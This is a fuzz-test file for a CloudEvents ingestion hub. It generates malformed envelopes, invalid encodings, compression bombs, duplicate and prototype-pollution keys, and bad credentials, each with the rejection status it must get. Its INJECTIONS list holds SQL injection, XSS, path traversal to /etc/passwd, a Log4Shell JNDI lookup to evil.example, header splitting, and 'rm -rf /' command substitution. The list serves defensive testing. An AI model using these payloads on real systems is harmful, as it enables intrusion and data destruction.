// Generators of bad input, one family each. Every case says what it is, what it sends and the
// answer it must get; each is bad by construction (a schema's own `required`, a pattern's
// complement, bytes that are not UTF-8), never by asking the hub's code whether it is.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { CanonicalEvent } from '@hub/events';
import { joiner } from '@hub/testing';
import { SOURCE_URIS, TOKENS } from '@test/support';
import { post, Sent } from './fuzz-harness';

export interface Case {
  name: string;
  /** A request fetch can send, or raw bytes for one it cannot (repeated headers). */
  sent: Sent | { raw: string | Buffer };
  /** The status it must get; '4xx' where several are right (an injection string is refused somewhere). */
  status: number | readonly number[] | '4xx';
  /** What every error's path must match, when the family knows it. */
  paths?: RegExp;
  /** In a batch: the positions of the bad events, the only ones its errors may name by index. */
  badIndexes?: number[];
}

const root = join(__dirname, '..', '..', '..');
type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

/** The event every mutation starts from: a valid joiner, the same on every run. */
export const base = (): CanonicalEvent & Record<string, unknown> => joiner('fen', { id: 'fuzz-0001', time: '2026-11-23T10:00:00.000Z' }, 1) as CanonicalEvent & Record<string, unknown>;
const text = (v: unknown) => JSON.stringify(v);

const STRING_ATTRIBUTES = ['specversion', 'id', 'source', 'type', 'subject', 'tenant', 'time', 'dataschema', 'datacontenttype'] as const;
const REQUIRED = ['specversion', 'id', 'source', 'type', 'subject', 'tenant', 'data'] as const;
const MAX_LENGTH = { id: 200, subject: 200, type: 200, source: 500 } as const;
/** What CloudEvents forbids in a String attribute: C0 and C1 controls, DEL, lone surrogates, noncharacters. */
const FORBIDDEN = ['\u0000', '\t', '\n', '\r', '\u001b', '\u007f', '\u0085', '\u009f', '\ud800', '\udfff', '\ufffe', '\uffff', '\ufdd0', '\u{10ffff}'];
const forbidden = fc.constantFrom(...FORBIDDEN);
const insertAt = (s: string, ch: string, at: number) => s.slice(0, at % (s.length + 1)) + ch + s.slice(at % (s.length + 1));
/** Not JSON's string, number or boolean: what no attribute may be. */
const notAString = fc.oneof(fc.integer(), fc.boolean(), fc.constant([] as Json[]), fc.constant({ a: 1 } as Json), fc.double({ noNaN: true, noDefaultInfinity: true }));
const TENANT = /^[a-z][a-z0-9-]{1,15}$/;
// CloudEvents 1.0 §3.1.1: a-z and 0-9 (MUST); at most 20 is advice (SHOULD NOT), and longer names are carried.
const ATTRIBUTE_NAME = /^[a-z0-9]+$/;
const KNOWN_NAMES = new Set<string>([...STRING_ATTRIBUTES, 'data', 'data_base64', '__proto__', 'constructor', 'prototype']);

const ev = (name: string, e: unknown, status = 400): Case => ({ name, sent: post(text(e)), status, paths: /^(\/|$)/ });
const mutate = (f: (e: ReturnType<typeof base>) => void) => {
  const e = base();
  f(e);
  return e;
};

/** Envelopes that are not the hub's CloudEvent: every one a 400 naming the attribute. */
export const envelopeCases: fc.Arbitrary<Case> = fc.oneof(
  fc.constantFrom(...REQUIRED).map((a) => ev(`without ${a}`, mutate((e) => delete e[a]))),
  fc.tuple(fc.constantFrom(...STRING_ATTRIBUTES), notAString).map(([a, v]) => ev(`${a} of ${text(v)}`, mutate((e) => ((e as Record<string, unknown>)[a] = v)))),
  fc.tuple(fc.constantFrom(...(Object.keys(MAX_LENGTH) as (keyof typeof MAX_LENGTH)[])), fc.integer({ min: 1, max: 3000 })).map(([a, extra]) => ev(`${a} ${extra} past its limit`, mutate((e) => (e[a] = 'a'.repeat(MAX_LENGTH[a] + extra))))),
  fc.constantFrom<Json>('0.3', '1', '2.0', '', ' 1.0', '1.0\n', 1, 1.0).map((v) => ev(`specversion ${text(v)}`, mutate((e) => (e.specversion = v as '1.0')))),
  fc.oneof(fc.array(fc.integer(), { maxLength: 3 }), fc.string(), fc.integer(), fc.boolean(), fc.constant(null)).map((v) => ev(`data ${text(v)}`, mutate((e) => ((e as Record<string, unknown>).data = v)))),
  fc.oneof(fc.constantFrom('FEN', 'f', '1fen', 'fen_1', 'a'.repeat(17), '', '*', 'fen ', 'fén'), fc.string({ maxLength: 20 }).filter((t) => !TENANT.test(t))).map((t) => ev(`tenant ${text(t)}`, mutate((e) => (e.tenant = t)))),
  fc
    .tuple(fc.stringMatching(/^[a-z][a-z0-9]{0,9}$/).filter((n) => !KNOWN_NAMES.has(n)), fc.oneof(fc.constant({ nested: true } as Json), fc.constant(['a'] as Json), fc.constant(1.5), fc.constant(2 ** 31), fc.constant(-(2 ** 31) - 1), fc.constant(2 ** 53)))
    .map(([n, v]) => ev(`extension ${n} of ${text(v)}`, mutate((e) => (e[n] = v)))),
  fc.oneof(fc.constantFrom('Upper', 'with_underscore', 'with-dash', 'é', 'constructor', 'prototype'), fc.string({ minLength: 1, maxLength: 25 }).filter((n) => !ATTRIBUTE_NAME.test(n) && !KNOWN_NAMES.has(n)))
    .map((n) => ev(`extension named ${text(n)}`, mutate((e) => (e[n] = 'x')))),
  fc.tuple(fc.constantFrom('id', 'source', 'type', 'subject', 'tenant', 'time', 'dataschema', 'traceparent'), forbidden, fc.nat()).map(([a, ch, at]) =>
    ev(`U+${ch.codePointAt(0)!.toString(16)} in ${a}`, mutate((e) => (e[a] = insertAt(String(e[a] ?? 'urn:x'), ch, at)))),
  ),
  fc.oneof(fc.constant([] as Json), fc.constant('event'), fc.constant(7), fc.constant(null), fc.constant([base()] as unknown as Json)).map((body) => ev(`a body of ${text(body).slice(0, 40)}`, body)),
  fc.constantFrom('text/plain', 'application/xml', 'application/jsonx', 'application/json\n').map((t) => ev(`datacontenttype ${t}`, mutate((e) => (e.datacontenttype = t)))),
  fc.constant(ev('data_base64 beside data', mutate((e) => (e.data_base64 = 'AAAA')))),
);

/** Where in the joiner a duplicate or a dangerous key goes: its objects, by path. */
const OBJECT_PATHS: string[][] = [[], ['data'], ['data', 'name'], ['data', 'employment'], ['data', 'employment', 'orgUnit'], ['data', 'employment', 'annualSalary']];

/** JSON.stringify, but the object at `at` gets one more member, written after its own: `key` again, or a new one. */
function withExtraMember(value: unknown, at: string[], key: string, extra: Json): string {
  const write = (v: unknown, path: string[]): string => {
    if (Array.isArray(v)) return `[${v.map((x, i) => write(x, [...path, String(i)])).join(',')}]`;
    if (v === null || typeof v !== 'object') return JSON.stringify(v);
    const members = Object.entries(v).map(([k, x]) => `${JSON.stringify(k)}:${write(x, [...path, k])}`);
    if (path.join('/') === at.join('/')) members.push(`${JSON.stringify(key)}:${JSON.stringify(extra)}`);
    return `{${members.join(',')}}`;
  };
  return write(value, []);
}

function objectAt(e: unknown, path: string[]): Record<string, unknown> {
  return path.reduce((o, k) => (o as Record<string, unknown>)[k], e) as Record<string, unknown>;
}

const INVALID_UTF8: number[][] = [[0x80], [0xbf], [0xc0, 0xaf], [0xc1, 0x81], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xf0, 0x82, 0x82, 0xac], [0xf4, 0x90, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xfe], [0xff], [0xe2, 0x82], [0xc3]];
const bytesWith = (inserted: number[], at: number) => {
  const t = Buffer.from(text(base()), 'utf8');
  const surname = t.indexOf('"Tester1"') + 1 + (at % 7);
  return Buffer.concat([t.subarray(0, surname), Buffer.from(inserted), t.subarray(surname)]);
};
/** The joiner with a raw JSON literal in place of its annual salary's amountMinor. */
const withAmount = (literal: string) => text(base()).replace('"amountMinor":3150000', `"amountMinor":${literal}`);

/** Bodies whose bytes, characters, keys or encoding the hub cannot take as they are. */
export const encodingCases: fc.Arbitrary<Case> = fc.oneof(
  fc.tuple(fc.constantFrom(...INVALID_UTF8), fc.nat()).map(([seq, at]) => ({ name: `bytes ${Buffer.from(seq).toString('hex')} in a string`, sent: post(bytesWith(seq, at)), status: 400 })),
  fc.tuple(fc.constantFrom('\\u0000', '\\ud800', '\\udfff', '\\udc00\\ud800'), fc.constantFrom('subject', 'id', 'tenant')).map(([esc, a]) => ({
    name: `${esc} in the ${a} attribute`,
    sent: post(text(base()).replace(`"${a}":"`, `"${a}":"${esc}`)),
    status: 400,
    paths: new RegExp(`^/${a}$`),
  })),
  fc.tuple(fc.constantFrom('\\u0000', '\\ud800', '\\udfff', 'a\\udc00\\ud800b'), fc.constantFrom('"Tester1"', '"Sam"', '"HR Advisor"')).map(([esc, field]) => ({
    name: `${esc} in data ${field}`,
    sent: post(text(base()).replace(field, `${field.slice(0, -1)}${esc}"`)),
    status: 422,
    paths: /^\/data\//,
  })),
  fc.constant<Case>({ name: 'a byte order mark', sent: post(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text(base()))])), status: 400 }),
  fc.constantFrom('latin1', 'iso-8859-1', 'utf-16', 'utf-16le', 'us-ascii', 'windows-1252', '"utf-32"').map((cs) => ({ name: `charset ${cs}`, sent: post(text(base()), { 'content-type': `application/cloudevents+json; charset=${cs}` }), status: 415 })),
  fc.constantFrom<BufferEncoding>('utf16le', 'ucs2').map((enc) => ({ name: `a body in ${enc} called UTF-8`, sent: post(Buffer.from(text(base()), enc)), status: 400 })),
  fc.constantFrom('gzip', 'deflate', 'br').map((ce) => ({ name: `Content-Encoding ${ce} on a plain body`, sent: post(text(base()), { 'content-encoding': ce }), status: 400 })),
  fc.integer({ min: 10, max: 200 }).map((cut) => ({ name: `gzip cut short at ${cut} bytes`, sent: post(gzipSync(text(base())).subarray(0, cut), { 'content-encoding': 'gzip' }), status: 400 })),
  fc.constantFrom('zstd', 'compress', 'x-gzip', 'gzip, gzip', 'gzip;q=1', 'chunked', 'identity, gzip').map((ce) => ({ name: `Content-Encoding ${ce}`, sent: post(text(base()), { 'content-encoding': ce }), status: 415 })),
  fc.constantFrom<[string, (b: Buffer) => Buffer]>(['gzip', gzipSync], ['deflate', deflateSync]).map(([ce, zip]) => ({ name: `a ${ce} bomb`, sent: post(zip(Buffer.alloc(4 * 1024 * 1024, 0x20)), { 'content-encoding': ce }), status: 413 })),
  fc.tuple(fc.constantFrom(...OBJECT_PATHS), fc.nat()).map(([at, k]) => {
    const keys = Object.keys(objectAt(base(), at));
    const key = keys[k % keys.length];
    return { name: `"${key}" twice in /${at.join('/')}`, sent: post(withExtraMember(base(), at, key, 'moor')), status: 400, paths: new RegExp(`^/${[...at, key].join('/')}$`) };
  }),
  fc.tuple(fc.constantFrom(...OBJECT_PATHS), fc.constantFrom('__proto__', 'constructor', 'prototype'), fc.constantFrom<Json>({ polluted: true }, 1, 'x')).map(([at, key, v]) => ({
    name: `"${key}" in /${at.join('/')}`,
    sent: post(withExtraMember(base(), at, key, v)),
    status: 400,
    paths: new RegExp(`^/${[...at, key].join('/')}$`),
  })),
  fc.integer({ min: 33, max: 5000 }).map((depth) => ({ name: `data nested ${depth} deep`, sent: post(text({ ...base(), data: 'DATA' }).replace('"DATA"', '{"a":'.repeat(depth) + '1' + '}'.repeat(depth))), status: 400 })),
  fc.constantFrom('1e30', '9007199254740993', '9007199254740992', '-9007199254740993', '1e400', '-1e400', '1E16', '123456789012345678901234567890').map((n) => ({ name: `amountMinor ${n}`, sent: post(withAmount(n)), status: 422, paths: /^\/data\/employment\/annualSalary\/amountMinor$/ })),
);

// ---- headers: binary mode, written raw so a header can come twice -------------------------------

const CE: Record<string, string> = { specversion: '1.0', id: 'fuzz-bin-1', source: SOURCE_URIS.hr, type: 'hr.employee.joined.v1', subject: 'FEN-000001', tenant: 'fen' };

/** A raw binary-mode POST; `headers` in order, repeats allowed. */
function binary(headers: [string, string][], data = text(base().data)): { raw: Buffer } {
  const body = Buffer.from(data, 'utf8');
  const lines = [['Host', 'hub'], ['Authorization', `Bearer ${TOKENS.hr}`], ['Content-Type', 'application/json'], ...headers, ['Content-Length', String(body.length)]];
  return { raw: Buffer.concat([Buffer.from(`POST /v1/events HTTP/1.1\r\n${lines.map(([k, v]) => `${k}: ${v}`).join('\r\n')}\r\n\r\n`, 'latin1'), body]) };
}
const ceHeaders = (override: Record<string, string | undefined> = {}): [string, string][] =>
  Object.entries({ ...CE, ...override })
    .filter(([, v]) => v !== undefined)
    .map(([k, v]) => [`ce-${k}`, v!]);
const without = <T extends string>(list: readonly T[], drop: T): T[] => list.filter((x) => x !== drop);

/** Binary-mode requests with a ce-* header missing, repeated, badly percent-encoded or forbidden; repeated singletons. */
export const headerCases: fc.Arbitrary<Case> = fc.oneof(
  fc.constantFrom(...Object.keys(CE)).map((k) => ({ name: `binary mode without ce-${k}`, sent: binary(ceHeaders({ [k]: undefined })), status: 400 })),
  fc.tuple(fc.constantFrom(...Object.keys(CE), 'traceparent'), fc.constantFrom('same', 'other')).map(([k, v]) => ({
    name: `ce-${k} twice (${v} value)`,
    // An attribute the event has already gets a second header; an extension gets two.
    sent: binary([...ceHeaders(), ...(k in CE ? [] : ([[`ce-${k}`, 'x']] as [string, string][])), [`ce-${k}`, v === 'same' ? CE[k] ?? 'x' : 'moor']]),
    status: 400,
    paths: new RegExp(`ce-${k}`),
  })),
  fc.tuple(fc.constantFrom('subject', 'id', 'tenant', 'source', 'comment'), fc.constantFrom('%0D%0A', '%0A', '%00', '%1B', '%7F', '%C2%85', '%EF%BF%BE', '%09')).map(([k, enc]) => ({
    name: `ce-${k} with ${enc}`,
    sent: binary(ceHeaders({ [k]: `${CE[k] ?? 'x'}${enc}Set-Cookie:%20a=b` })),
    status: 400,
    paths: new RegExp(`^/${k}$`),
  })),
  fc.tuple(fc.constantFrom('subject', 'id', 'comment'), fc.constantFrom('%', '%Z1', '%E0%A4%A', '%C0%A0', '%FF', '%ED%A0%80', '%F4%90%80%80', '\u00fc', '"unterminated', 'a"b')).map(([k, v]) => ({
    name: `ce-${k} of ${JSON.stringify(v)}`,
    sent: binary(ceHeaders({ [k]: v })),
    status: 400,
    paths: new RegExp(`^/${k}$`),
  })),
  fc.constantFrom('datacontenttype', 'data', 'data_base64').map((k) => ({ name: `ce-${k} in binary mode`, sent: binary([...ceHeaders(), [`ce-${k}`, 'x']]), status: 400 })),
  fc.constantFrom('0.3', '1', '', '1.0%20').map((v) => ({ name: `ce-specversion ${JSON.stringify(v)}`, sent: binary(ceHeaders({ specversion: v })), status: 400 })),
  fc.constantFrom<[string, string]>(['Host', 'evil.example'], ['Authorization', `Bearer ${TOKENS.allSystems}`], ['Content-Type', 'application/cloudevents+json'], ['Content-Encoding', 'identity'], ['Content-Length', '2']).map(([k, v]) => ({
    name: `${k} twice`,
    // binary() sends Host, Authorization, Content-Type and Content-Length once already.
    sent: binary([...ceHeaders(), ...(k === 'Content-Encoding' ? ([[k, v]] as [string, string][]) : []), [k, v]]),
    status: 400,
    paths: new RegExp(k.toLowerCase()),
  })),
  fc.constantFrom(...without(Object.keys(CE), 'specversion')).map((k) => ({ name: `ce-${k} empty`, sent: binary(ceHeaders({ [k]: '' })), status: 400 })),
);

// ---- batches --------------------------------------------------------------------------------------

const batch = (items: unknown) => post(text(items), { 'content-type': 'application/cloudevents-batch+json' });
const good = (i: number) => ({ ...base(), id: `fuzz-batch-${i}` });
/** One bad event of a batch, and the status its badness earns: envelope 400, data 422. */
const badEvent = fc.oneof(
  fc.constantFrom(...REQUIRED).map((a) => [(i: number) => { const e: Record<string, unknown> = good(i); delete e[a]; return e; }, 400] as const),
  forbidden.map((ch) => [(i: number) => ({ ...good(i), subject: `FEN${ch}1` }), 400] as const),
  fc.constant([(i: number) => ({ ...good(i), data: { ...base().data as object, dateOfBirth: 'yesterday' } }), 422] as const),
  fc.constant([(i: number) => ({ ...good(i), data: { ...base().data as object, extra: true } }), 422] as const),
);

/** Batches that are not arrays, mix good and bad events, or are larger than the limit. */
export const batchCases = (maxBodyBytes: number): fc.Arbitrary<Case> =>
  fc.oneof(
    fc.constantFrom<Json>({}, 'events', 7, null, true).map((v) => ({ name: `a batch of ${text(v)}`, sent: batch(v), status: 400 })),
    fc.constant(base()).map((e) => ({ name: 'one event, not in an array', sent: batch(e), status: 400 })),
    fc.array(fc.oneof(fc.integer(), fc.string(), fc.constant(null), fc.constant([])), { minLength: 1, maxLength: 5 }).map((items) => ({ name: `a batch of ${text(items)}`, sent: batch(items), status: 400 })),
    fc.tuple(fc.integer({ min: 0, max: 8 }), fc.array(fc.tuple(badEvent, fc.nat()), { minLength: 1, maxLength: 4 })).map(([goods, bads]) => {
      const items: { event: unknown; bad: boolean }[] = Array.from({ length: goods }, (_, i) => ({ event: good(i), bad: false }));
      bads.forEach(([[make], at], n) => items.splice(at % (items.length + 1), 0, { event: make(1000 + n), bad: true }));
      const badIndexes = items.flatMap((x, i) => (x.bad ? [i] : []));
      const status = bads.some(([[, s]]) => s === 400) ? 400 : 422;
      return { name: `${goods} good events and ${bads.length} bad at ${badIndexes.join(',')}`, sent: batch(items.map((x) => x.event)), status, badIndexes };
    }),
    fc.integer({ min: 1, max: 3 }).map((times) => {
      const one = text(good(0)).length;
      const items = Array.from({ length: Math.ceil((times * maxBodyBytes) / one) + 1 }, (_, i) => good(i));
      return { name: `a batch of ${items.length} events, ${times}× the size limit`, sent: batch(items), status: 413 };
    }),
    fc.integer({ min: 50, max: 1500 }).map((n) => ({ name: `a batch of ${n} empty objects`, sent: batch(Array.from({ length: n }, () => ({}))), status: 400 })),
  );

// ---- schemas: every canonical type's valid fixtures, mutated ------------------------------------

interface TypeFixtures {
  type: string;
  schema: { required: string[]; properties: Record<string, unknown> };
  fixtures: Record<string, Json>[];
}

export function canonicalTypes(): TypeFixtures[] {
  return readdirSync(join(root, 'schemas', 'fixtures')).map((type) => ({
    type,
    schema: JSON.parse(readFileSync(join(root, 'schemas', `${type}.json`), 'utf8')),
    fixtures: readdirSync(join(root, 'schemas', 'fixtures', type, 'valid')).map((f) => JSON.parse(readFileSync(join(root, 'schemas', 'fixtures', type, 'valid', f), 'utf8'))),
  }));
}

/** Paths of every integer and every other number in a value. */
function numbersIn(v: Json, path: string[] = []): string[][] {
  if (typeof v === 'number') return [path];
  if (Array.isArray(v)) return v.flatMap((x, i) => numbersIn(x, [...path, String(i)]));
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => numbersIn(x, [...path, k]));
  return [];
}
const jsonType = (v: unknown) => (v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v);
const setAt = (v: Record<string, Json>, path: string[], x: Json) => {
  const copy = structuredClone(v);
  const parent = path.slice(0, -1).reduce<Json>((o, k) => (o as Record<string, Json>)[k], copy) as Record<string, Json>;
  parent[path[path.length - 1]] = x;
  return copy;
};

/** Each type's valid data, broken as its own schema says it must not be: every one a 422 naming /data/…. */
export const schemaCases = (types: TypeFixtures[]): fc.Arbitrary<Case> =>
  fc.tuple(fc.constantFrom(...types), fc.nat(), fc.nat(), fc.integer({ min: 0, max: 3 }), fc.constantFrom<Json>(true, [1], { x: 1 }, 12345, 'text', null)).map(([t, f, k, kind, wrong]) => {
    const data = structuredClone(t.fixtures[f % t.fixtures.length]);
    const event = (d: unknown) => ({ ...base(), id: `fuzz-schema-${t.type}`, type: t.type, source: SOURCE_URIS.allSystems, data: d });
    const sent = (d: unknown) => post(text(event(d)), {}, TOKENS.allSystems);
    const paths = /^\/data(\/|$)/;
    if (kind === 0) {
      const req = t.schema.required[k % t.schema.required.length];
      delete data[req];
      return { name: `${t.type} without ${req}`, sent: sent(data), status: 422, paths };
    }
    if (kind === 1) return { name: `${t.type} with an unknown property`, sent: sent({ ...data, fuzzUnknownProperty: 1 }), status: 422, paths };
    if (kind === 2) {
      const keys = Object.keys(data);
      const key = keys[k % keys.length];
      // A value of another JSON type than the valid one (no canonical schema has a union type).
      const replacement = jsonType(wrong) === jsonType(data[key]) ? (typeof data[key] === 'boolean' ? 'text' : false) : wrong;
      return { name: `${t.type} with ${key} = ${text(replacement)}`, sent: sent({ ...data, [key]: replacement }), status: 422, paths };
    }
    const numbers = numbersIn(data);
    const literal = ['1e30', '9007199254740993', '1e400', '-1e400', '18446744073709551616'][k % 5];
    if (numbers.length === 0) return { name: `${t.type} with ${literal} as an unknown property`, sent: sent({ ...data, fuzzUnknownProperty: 1 }), status: 422, paths };
    const at = numbers[k % numbers.length];
    const body = text(event(setAt(data, at, 'FUZZ-NUMBER'))).replace('"FUZZ-NUMBER"', literal);
    return { name: `${t.type} with ${literal} at /${at.join('/')}`, sent: post(body, {}, TOKENS.allSystems), status: 422, paths: new RegExp(`^/data/${at.join('/')}$`) };
  });

// ---- injection strings ------------------------------------------------------------------------------

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  '1; SELECT pg_sleep(10)--',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:r}mi://x/y}',
  'a\r\nSet-Cookie: session=evil',
  '%0d%0aLocation:%20http://evil.example',
  '%s%s%s%n%x',
  '{0}{1}%d',
  '$(rm -rf /)',
  '`id`',
  '\u202egnp.exe',
  '{{7*7}}',
];
const injection = fc.constantFrom(...INJECTIONS);

/** Injection strings where the hub's rules refuse them (a pattern, a format, a scope, an unknown type). */
export const injectionCases: fc.Arbitrary<Case> = fc.oneof(
  fc.tuple(injection, fc.constantFrom('tenant', 'specversion', 'time', 'dataschema', 'type', 'source')).map(([s, a]) => ({ name: `${a} = ${JSON.stringify(s)}`, sent: post(text({ ...base(), [a]: s })), status: '4xx' as const })),
  fc.tuple(injection, fc.constantFrom('employeeId', 'niNumber', 'dateOfBirth', 'effectiveFrom')).map(([s, f]) => ({
    name: `data.${f} = ${JSON.stringify(s)}`,
    sent: post(text({ ...base(), data: { ...(base().data as object), [f]: s } })),
    status: 422,
    paths: new RegExp(`^/data/${f}$`),
  })),
  fc.tuple(injection, fc.constantFrom('tenant', 'specversion', 'type')).map(([s, a]) => ({ name: `ce-${a} = ${JSON.stringify(s)}`, sent: binary(ceHeaders({ [a]: encodeURIComponent(s) })), status: '4xx' as const })),
  fc.tuple(injection, fc.constantFrom('state', 'limit', 'from', 'to', 'after')).map(([s, q]) => ({
    name: `GET /v1/dead-letters?${q}=${JSON.stringify(s)}`,
    sent: { path: `/v1/dead-letters?${q}=${encodeURIComponent(s)}`, headers: { authorization: `Bearer ${TOKENS.opsAdmin}` } },
    status: 400,
  })),
);

// ---- credentials ----------------------------------------------------------------------------------

/** Missing, malformed, unknown and misplaced credentials: 401 or 403, never further. */
export const authCases: fc.Arbitrary<Case> = fc.oneof(
  fc.constant<Case>({ name: 'no Authorization', sent: post(text(base()), {}, null), status: 401 }),
  fc
    .oneof(
      fc.constantFrom('Bearer', 'Bearer ', 'bearer', 'Basic dXNlcjpwYXNz', 'Token abc', 'Bearer a b', `Bearer ${'x'.repeat(6000)}`, 'Bearer\tdemo-hr-token-nope', `Basic ${Buffer.from(`x:${TOKENS.hr}`).toString('base64')}`),
      fc.string({ unit: fc.constantFrom(...'abcXYZ019 -_.~+/='.split('')), maxLength: 60 }).filter((s) => !/^bearer\s+\S+\s*$/i.test(s)),
    )
    .map((h) => ({ name: `Authorization ${JSON.stringify(h.slice(0, 30))}`, sent: post(text(base()), { authorization: h }, null), status: 401 })),
  fc.stringMatching(/^[A-Za-z0-9._~-]{1,80}$/).map((t) => ({ name: `unknown token ${t.slice(0, 20)}`, sent: post(text(base()), {}, `fuzz-${t}`), status: 401 })),
  fc.constantFrom(TOKENS.opsAdmin, TOKENS.opsViewer, TOKENS.fenOperator, TOKENS.metrics).map((t) => ({ name: `an ops token (${t})`, sent: post(text(base()), {}, t), status: 403 })),
  fc.constantFrom('moor', 'vale').map((tenant) => ({ name: `the fen-only feed posting for ${tenant}`, sent: post(text({ ...base(), source: SOURCE_URIS.fenJoinersOnly, tenant }), {}, TOKENS.fenJoinersOnly), status: 403, paths: /^\/tenant$/ })),
  fc.constantFrom('hr.employee.left.v1', 'hr.employee.moved.v1', 'hr.employee.joined.v2').map((type) => ({ name: `the joiners-only feed posting ${type}`, sent: post(text({ ...base(), source: SOURCE_URIS.fenJoinersOnly, type }), {}, TOKENS.fenJoinersOnly), status: 403, paths: /^\/type$/ })),
  fc.constantFrom('urn:erp-hub:source:payroll', 'urn:erp-hub:source:fen-hr-local', 'https://evil.example/').map((source) => ({ name: `HR posting as ${source}`, sent: post(text({ ...base(), source })), status: 403, paths: /^\/source$/ })),
  fc.constant<Case>({ name: 'a source token on the payroll domain', sent: post(text({ ...base(), type: 'payroll.pay-change.requested.v1' })), status: 403, paths: /^\/type$/ }),
);

// ---- ops query parameters ---------------------------------------------------------------------------

const OPS_LISTS = ['/v1/dead-letters', '/v1/dead-letters/groups', '/v1/audit'] as const;
const DEAD_LETTER_PARAMS = ['tenant', 'target', 'type', 'subject', 'reason', 'fingerprint', 'from', 'to', 'role', 'state', 'limit', 'after'];
const AUDIT_PARAMS = ['actor', 'action', 'from', 'to', 'limit', 'after'];
const paramsOf = (path: string) => (path === '/v1/audit' ? AUDIT_PARAMS : DEAD_LETTER_PARAMS);
const STATES = new Set(['open', 'all', 'dead-lettered', 'replaying', 'queued', 'retrying', 'delivered', 'discarded']);
const RFC3339 = /^\d{4}-\d{2}-\d{2}([Tt ]\d{2}:\d{2}(:\d{2}(\.\d+)?)?([Zz]|[+-]\d{2}:\d{2}))?$/;
const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
const ops = (path: string, token: string | null = TOKENS.opsAdmin): Sent => ({ path, headers: token ? { authorization: `Bearer ${token}` } : {} });
const q = (path: string, pairs: [string, string][]) => `${path}?${pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&')}`;

/** A limit no endpoint takes: not an integer from 1 to 1000 however Number() reads it. */
const badLimit = fc.oneof(fc.constantFrom('0', '-1', '1.5', '1001', '99999999999999999999', 'abc', '1e9', 'Infinity', 'NaN', '--1', '10 0'), fc.string({ minLength: 1, maxLength: 12 })).filter((v) => {
  const n = Number(v);
  return v.trim() !== '' && !(Number.isInteger(n) && n >= 1 && n <= 1000);
});
/** A cursor the ledger did not issue: not JSON, not an array of strings, or parts of the wrong shape. */
const badCursor = fc.oneof(
  fc.string({ minLength: 1, maxLength: 40 }),
  fc.constantFrom(b64('[]'), b64(['x', 'y', 'z']), b64([1, 2, 3]), b64(['2026-01-01T00:00:00+00:00', 'not-a-key', 't']), b64(['yesterday', 'a'.repeat(32), 't']), b64(['2026-01-01T00:00:00+00:00', 'a'.repeat(32), 't\u0000']), b64(['99999999999999999999']), b64(['-1']), b64('{"a":1}'), b64('null')),
  fc.array(fc.string({ maxLength: 10 }), { maxLength: 5 }).map(b64),
);
const badState = fc.oneof(fc.constantFrom('DEAD-LETTERED', 'open,bogus', 'dead-lettered,', ',', 'all,open', 'Open'), fc.string({ minLength: 1, maxLength: 20 })).filter((s) => s.trim() !== '' && !s.split(',').every((x) => STATES.has(x.trim())) && !['open', 'all'].includes(s));
const badTimestamp = fc.oneof(fc.constantFrom('yesterday', '2026', '1 January 2026', '2026-11-23T00:00:00', '2026-02-30', '0000-01-01', '-271821-04-20T00:00:00Z', '+275760-09-13T00:00:00Z', '2026-11-23T25:61:00Z', 'now()', "2026-01-01'; --"), fc.string({ minLength: 1, maxLength: 25 })).filter((s) => !RFC3339.test(s));

const RECONCILIATION = ['/v1/reconciliation', '/v1/reconciliation/drift'] as const;
const RECONCILIATION_PARAMS = ['tenant', 'from', 'to', 'type', 'target'];
const WINDOW: [string, string][] = [['tenant', 'fen'], ['from', '2026-11-01'], ['to', '2026-11-02']];
const withParam = (k: string, v: string) => WINDOW.map(([a, b]): [string, string] => [a, a === k ? v : b]).concat(WINDOW.some(([a]) => a === k) ? [] : [[k, v]]);

/** Reconciliation windows gone wrong: days that are not, a tenant unknown or out of scope, a window too long, a parameter twice, no right to read. */
const reconciliationCases: fc.Arbitrary<Case> = fc.oneof(
  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.constantFrom('from', 'to'), badTimestamp).map(([p, k, v]) => ({ name: `${p}?${k}=${JSON.stringify(v)}`, sent: ops(q(p, withParam(k, v))), status: 400, paths: new RegExp(`^/${k}$`) })),
  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.date({ min: new Date('2000-01-01'), max: new Date('2099-01-01'), noInvalidDate: true }), fc.integer({ min: 1, max: 4000 })).map(([p, d, n]) => {
    const from = d.toISOString().slice(0, 10);
    const to = new Date(d.getTime() + n * 86_400_000).toISOString().slice(0, 10);
    return n >= 92
      ? { name: `${p} over ${n + 1} days`, sent: ops(q(p, [['tenant', 'fen'], ['from', from], ['to', to]])), status: 400, paths: /^\/to$/ }
      : { name: `${p} from ${to} back to ${from}`, sent: ops(q(p, [['tenant', 'fen'], ['from', to], ['to', from]])), status: 400, paths: /^\/from$/ };
  }),
  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/).filter((t) => !['fen', 'moor', 'vale'].includes(t))).map(([p, t]) => ({ name: `${p}?tenant=${t}`, sent: ops(q(p, withParam('tenant', t))), status: 404, paths: /^\/tenant$/ })),
  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.constantFrom('moor', 'vale')).map(([p, t]) => ({ name: `${p}?tenant=${t} as fen's operator`, sent: ops(q(p, withParam('tenant', t)), TOKENS.fenOperator), status: 404, paths: /^\/tenant$/ })),
  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.constantFrom<[string, string]>(['type', 'hr.employee.joined.v9'], ['type', 'x'], ['target', 'payroll-moor'], ['target', 'nowhere'])).map(([p, [k, v]]) => ({ name: `${p}?${k}=${v}`, sent: ops(q(p, withParam(k, v))), status: 400, paths: new RegExp(`^/${k}$`) })),
